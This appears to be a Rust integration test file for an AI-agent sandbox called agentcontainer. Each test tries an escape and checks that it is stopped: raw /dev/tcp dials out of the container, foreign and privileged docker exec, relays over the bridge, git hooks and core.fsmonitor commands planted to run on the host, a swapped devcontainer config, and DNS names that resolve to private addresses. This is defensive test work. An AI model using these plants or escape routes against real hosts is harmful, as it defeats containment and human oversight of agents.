//! Attempts that take more than a program inside: something done to the container from outside, or a setting of its own.

use agentcontainer_tests::attempt::Line;
use agentcontainer_tests::docker::{self, Plain};
use agentcontainer_tests::peer::NameServer;
use agentcontainer_tests::place::token;
use agentcontainer_tests::receiver::Receiver;
use agentcontainer_tests::{Workspace, outcome, rig};
use serde_json::json;

pub fn record(id: &str, title: &str, control: &str, layer: &str) {
    let line = Line {
        id: id.into(),
        title: title.into(),
        control: control.into(),
        outcome: "stopped".into(),
        layer: layer.into(),
    };
    line.record();
}

/// A shell command that dials the receiver by its raw address and says a word.
pub fn dial(receiver: &Receiver, word: &str) -> String {
    format!(
        "timeout 5 bash -c 'exec 3<>/dev/tcp/{}/{} && echo {word} >&3'",
        receiver.address.ip(),
        receiver.port()
    )
}

/// The engine's name for the container of a session.
pub fn container(session: &str) -> String {
    let listed = docker::run(&["ps", "--all", "--format", "{{.ID}} {{.Names}} {{.Labels}}"]);
    let line = listed
        .lines()
        .find(|line| line.contains(session))
        .unwrap_or_else(|| panic!("no container of {session}: {listed}"));
    line.split(' ').next().unwrap().to_owned()
}

#[test]
fn c08_a_process_that_the_engine_execs_is_held_too() {
    let receiver = Receiver::start();
    let plain = Plain::start(&[], &["sleep", "300"]);
    docker::attempt(&["exec", &plain.id, "sh", "-c", &dial(&receiver, "control")]);
    assert!(receiver.hears(b"control"));
    let (workspace, name) = (Workspace::new(), token("c8"));
    let _session = workspace.session(&name);
    let id = container(&name);
    // An engine that has not every capability itself can give no exec all of them, in a plain container either.
    let privileged = docker::attempt(&["exec", "--privileged", &plain.id, "true"]).status == 0;
    let tried = format!("{}; echo tried", dial(&receiver, "governed"));
    for user in ["0", "1000"] {
        for more in [&["--user", user][..], &["--privileged", "--user", user]] {
            let words = [&["exec"], more, &[&id, "sh", "-c", &tried]].concat();
            if more.contains(&"--privileged") && !privileged {
                continue;
            }
            let out = docker::attempt(&words);
            assert!(out.stdout.ends_with("tried\n"), "{out:?}");
        }
    }
    std::thread::sleep(std::time::Duration::from_millis(200));
    assert!(!receiver.heard_bytes(b"governed"));
    record(
        "C08",
        "foreign docker exec, privileged too",
        if privileged {
            "works"
        } else {
            "works; privileged ones this engine cannot make"
        },
        "gate, empty network namespace",
    );
}

#[test]
fn n26_nobody_outside_can_dial_in() {
    let plain = Plain::start(&[], &["nc", "-l", "-k", "-p", "7000"]);
    let reach = |address: std::net::Ipv4Addr| {
        (0..20).any(|_| {
            std::thread::sleep(std::time::Duration::from_millis(100));
            std::net::TcpStream::connect_timeout(
                &(address, 7000).into(),
                std::time::Duration::from_secs(1),
            )
            .is_ok()
        })
    };
    assert!(reach(plain.address()));
    let (workspace, name) = (Workspace::new(), token("n26"));
    let session = workspace.session(&name);
    session.inside("nc -l -k -p 7000 >/dev/null 2>&1 & sleep 0.2");
    let networks = docker::run(&[
        "inspect",
        "--format",
        "{{range .NetworkSettings.Networks}}[{{.IPAddress}}{{.GlobalIPv6Address}}]{{end}}{{json .HostConfig.PortBindings}}",
        &container(&name),
    ]);
    assert!(
        networks.starts_with("[]") && !networks.contains("HostPort"),
        "{networks}"
    );
    record(
        "N26",
        "listen inside and be dialled from outside",
        "works",
        "empty network namespace",
    );
}

#[test]
fn c23_another_container_on_the_bridge_is_no_relay() {
    let relay = Plain::start(&[], &["sh", "-c", "nc -l -k -p 7000 >/heard"]);
    let heard = || docker::attempt(&["exec", &relay.id, "cat", "/heard"]).stdout;
    let dial = |word: &str| {
        format!(
            "timeout 5 bash -c 'exec 3<>/dev/tcp/{}/7000 && echo {word} >&3'",
            relay.address()
        )
    };
    let plain = Plain::start(&[], &["sleep", "300"]);
    let began = std::time::Instant::now();
    while !heard().contains("control") {
        assert!(began.elapsed().as_secs() < 20);
        docker::attempt(&["exec", &plain.id, "sh", "-c", &dial("control")]);
    }
    let out = Workspace::new().inside(&format!("{}; echo tried", dial("governed")));
    assert_eq!(out.ok(), "tried");
    assert!(!heard().contains("governed"));
    record(
        "C23",
        "another container on the bridge as a relay",
        "works",
        "gate, empty network namespace",
    );
}

#[test]
fn k05_lifecycle_commands_run_under_the_policy() {
    let (receiver, host) = (Receiver::start(), format!("{}.test", token("k5")));
    let good = format!(
        "bash -c 'exec 3<>/dev/tcp/{host}/{} && echo by-name >&3 && read -t 10 -u 3 x'",
        receiver.port()
    );
    let workspace = Workspace::new()
        .allow(&[&format!("{host}:{}", receiver.port())])
        .key(
            "onCreateCommand",
            json!(format!("{}; {good}", dial(&receiver, "by-address"))),
        )
        .key(
            "postStartCommand",
            json!(format!("{}; true", dial(&receiver, "by-address"))),
        );
    let out = workspace.run(&["true"]);
    out.status(0);
    assert!(receiver.hears(b"by-name"), "{}\n{}", out.stdout, out.stderr);
    assert!(!receiver.heard_bytes(b"by-address"));
    record(
        "K05",
        "lifecycle commands",
        "the same command reaches what is allowed",
        "gate",
    );
}

#[test]
fn x07_a_container_started_without_us_never_runs_its_program() {
    // With an enforcer of its own, which is stopped on the way.
    let (workspace, name) = (Workspace::new().with_own_state(), token("x7"));
    workspace.write();
    let sidecar = workspace.cli(&["enforcer", "start"]).ok().to_owned();
    let script = "echo ran >>runs; sleep 300";
    let words = ["run", "--yes", "--detach", "--name", &name, "--"];
    workspace
        .cli(&[&words[..], &["sh", "-c", script]].concat())
        .status(0);
    let id = container(&name);
    let runs = || {
        std::fs::read_to_string(workspace.path().join("runs"))
            .unwrap_or_default()
            .lines()
            .count()
    };
    let ran = |times: usize| {
        let began = std::time::Instant::now();
        while runs() < times {
            assert!(began.elapsed().as_secs() < 30, "it ran {} times", runs());
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
    };
    // Started by hand, and it does start; what init says then is the container's own status.
    let never_runs = |id: &str, times: usize| {
        docker::run(&["start", id]);
        let began = std::time::Instant::now();
        let state = || {
            docker::run(&[
                "inspect",
                "--format",
                "{{.State.Status}} {{.State.ExitCode}}",
                id,
            ])
        };
        while state().starts_with("running") {
            assert_eq!(runs(), times, "it ran");
            assert!(began.elapsed().as_secs() < 60, "init waits for ever");
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
        assert_eq!((state().as_str(), runs()), ("exited 125", times));
    };
    ran(1);
    // The very request, labels and cgroup and init and all, a second time: while the session's own container runs...
    let copy = docker::copy(&id);
    never_runs(&copy, 1);
    // ... and both with nobody there to ask.
    docker::run(&["stop", &sidecar]);
    docker::run(&["kill", &id]);
    never_runs(&id, 1);
    never_runs(&copy, 1);
    // Control: where the enforcer is there to be asked, they run.
    workspace.cli(&["enforcer", "start"]).status(0);
    docker::run(&["start", &copy]);
    ran(2);
    docker::run(&["kill", &copy]);
    docker::run(&["start", &id]);
    ran(3);
    docker::run(&["rm", "--force", &copy]);
    workspace.cli(&["stop", &name]).status(0);
    record(
        "X07",
        "docker start without the enforcer's leave, a copy of the request",
        "both run where the enforcer is there",
        "init: no challenge",
    );
}

/// Git on the host, in a repository whose owner the test is not; what it says, whatever comes of it.
fn host_git(path: &std::path::Path, words: &str) -> String {
    let mut shell = std::process::Command::new("sh");
    shell
        .args(["-c", words])
        .env("GIT_CONFIG_COUNT", "1")
        .env("GIT_CONFIG_KEY_0", "safe.directory")
        .env("GIT_CONFIG_VALUE_0", "*")
        .current_dir(path);
    let out = outcome::finish(shell, outcome::DEADLINE);
    out.stdout + &out.stderr
}

/// A repository of the user's that programs inside are, with a commit.
fn repository(path: &std::path::Path) {
    host_git(
        path,
        "git init -q -b main . && echo x >file && git add . && git -c user.name=t -c user.email=t@t commit -qm first && chown -R 1000:1000 .",
    );
    assert!(path.join(".git/config").exists());
}

/// A plain container, of the same user, with a directory bound at /w.
fn beside(path: &std::path::Path) -> Plain {
    let bind = format!("type=bind,source={},target=/w", path.display());
    Plain::start(
        &["--user", "1000:1000", "--mount", &bind, "--workdir", "/w"],
        &["sleep", "300"],
    )
}

#[test]
fn x04_git_hooks_and_config_cannot_be_planted() {
    const PLANTS: &[(&str, &str)] = &[
        (
            "a repository in place of the first",
            "mv .git .g2; git init -q -b main . ; git config core.fsmonitor 'touch pwned; false'",
        ),
        (
            "config, written in place",
            "printf '[core]\\n\\tfsmonitor = \"touch pwned; false\"\\n' >>.git/config",
        ),
        (
            "config, replaced",
            "printf '[core]\\n\\tfsmonitor = \"touch pwned; false\"\\n' >.git/new; mv .git/new .git/config",
        ),
        (
            "config, by git",
            "git config core.fsmonitor 'touch pwned; false'",
        ),
        (
            "a hook",
            "printf '#!/bin/sh\\ntouch pwned\\n' >.git/hooks/post-checkout; chmod +x .git/hooks/post-checkout",
        ),
        (
            "the directory of hooks, replaced",
            "mkdir .git/h; printf '#!/bin/sh\\ntouch pwned\\n' >.git/h/post-checkout; chmod +x .git/h/post-checkout; mv .git/hooks .git/old; mv .git/h .git/hooks",
        ),
        (
            "hooks elsewhere",
            "mkdir h; printf '#!/bin/sh\\ntouch pwned\\n' >h/post-checkout; chmod +x h/post-checkout; git config core.hooksPath h",
        ),
        (
            "a common directory elsewhere",
            "mkdir .git/c; cp -r .git/objects .git/refs .git/c; printf '[core]\\n\\tfsmonitor = \"touch pwned; false\"\\n' >.git/c/config; rm -f .git/commondir; echo c >.git/commondir",
        ),
        (
            "a nested repository that the index names",
            "git init -q sub; git -C sub -c user.name=t -c user.email=t@t commit -q --allow-empty -m x; git add sub; git -C sub config core.fsmonitor 'touch ../pwned; false'",
        ),
        (
            "a nested repository by a file",
            "git init -q --separate-git-dir data sub; git -C sub -c user.name=t -c user.email=t@t commit -q --allow-empty -m x; git add sub; git -C sub config core.fsmonitor 'touch ../pwned; false'; printf 'gitdir: ../data\\n' >sub/.git; git -C sub config core.worktree ../sub",
        ),
    ];
    let works = "git status; git checkout -q -b other; git status";
    for (what, plant) in PLANTS {
        let control = Workspace::new();
        control.write();
        repository(&control.path());
        docker::attempt(&["exec", &beside(&control.path()).id, "sh", "-c", plant]);
        let said = host_git(&control.path(), works);
        assert!(
            control.path().join("pwned").exists(),
            "the control does not work: {what}: {said}"
        );

        let workspace = Workspace::new();
        workspace.write();
        repository(&workspace.path());
        let before = std::fs::read_to_string(workspace.path().join(".git/config")).unwrap();
        let out = workspace.inside(&format!("touch ran; {plant}"));
        let said = host_git(&workspace.path(), works);
        assert!(workspace.path().join("ran").exists(), "{}", out.stderr);
        assert!(
            said.contains("ran") && !workspace.path().join("pwned").exists(),
            "{what}: {said}"
        );
        assert_eq!(
            std::fs::read_to_string(workspace.path().join(".git/config")).unwrap(),
            before,
            "{what}"
        );
    }
    // Where there is no repository yet, one may be made, and holds nothing that runs.
    let plant = "git init -q -b main .; git config core.fsmonitor 'touch pwned; false'; git config user.name me";
    let control = Workspace::new();
    docker::attempt(&["exec", &beside(&control.path()).id, "sh", "-c", plant]);
    host_git(&control.path(), works);
    assert!(control.path().join("pwned").exists());
    let workspace = Workspace::new();
    workspace.inside(plant).status(0).says("core.fsmonitor");
    host_git(&workspace.path(), works);
    assert!(!workspace.path().join("pwned").exists());
    assert_eq!(
        host_git(&workspace.path(), "git config user.name").trim(),
        "me"
    );
    record(
        "X04",
        "rename .git, plant hooks, fsmonitor, nested repositories",
        "works",
        "mounts; what is new is looked through at the end",
    );
}

#[test]
fn x05_no_config_can_be_put_ahead_of_the_approved_one() {
    const PLANT: &str = "mkdir .devcontainer; echo '{ \"image\": \"agentcontainer-test\" }' >.devcontainer/agentcontainer.json";
    let control = Workspace::new();
    control.run(&["true"]).status(0);
    docker::attempt(&["exec", &beside(&control.path()).id, "sh", "-c", PLANT]);
    control
        .cli(&["run", "--yes", "--", "true"])
        .status(125)
        .says(".devcontainer/agentcontainer.json");
    let workspace = Workspace::new();
    let name = token("x5");
    let session = workspace.session(&name);
    assert_ne!(session.inside(PLANT).status, 0);
    session.inside(&format!(
        "mv .devcontainer d; {PLANT}; mv agentcontainer.json x; touch ran"
    ));
    workspace.cli(&["stop", &name]).status(0);
    drop(session);
    assert!(workspace.path().join("ran").exists());
    assert!(!workspace.path().join(".devcontainer").exists());
    workspace.cli(&["run", "--", "true"]).status(0);
    record(
        "X05",
        "a config ahead of the approved one",
        "works, and is refused at the next run",
        "mounts: masks",
    );
}

#[test]
fn d05_a_name_that_leads_inside_is_refused_after_resolution() {
    let (receiver, host) = (Receiver::start(), format!("{}.test", token("d5")));
    let word = |word: &str| {
        format!(
            "timeout 20 bash -c 'exec 3<>/dev/tcp/{host}/{} && echo {word} >&3; read -t 5 -u 3 x'; true",
            receiver.port()
        )
    };
    let entry = format!("{host}:{}", receiver.port());
    // The resolver answers with the bridge's address: private, so only where the host's configuration names that network.
    let names = NameServer::start(rig().bridge);
    let line = format!("resolver = \"{}:{}\"", rig().bridge, names.port);
    let resolved = |workspace: Workspace| workspace.gateway_line(&line).allow_without_host(&entry);
    resolved(Workspace::new()).inside(&word("control"));
    assert!(receiver.hears(b"control"), "the control does not work");
    resolved(Workspace::new().without_private_networks()).inside(&word("governed"));
    std::thread::sleep(std::time::Duration::from_millis(200));
    assert!(!receiver.heard_bytes(b"governed"));
    record(
        "D05",
        "an allowed name that resolves to a private address",
        "works",
        "gateway: address class",
    );
}
